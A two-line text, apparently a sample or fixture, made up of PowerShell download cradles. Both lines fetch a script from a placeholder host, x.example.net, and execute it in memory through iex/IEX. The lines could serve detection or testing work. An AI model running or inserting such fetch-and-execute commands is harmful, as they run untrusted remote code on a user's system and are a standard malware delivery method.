iwr https://x.example.net/a.ps1 -UseBasicParsing | iex
IEX (New-Object Net.WebClient).DownloadString('https://x.example.net/b')
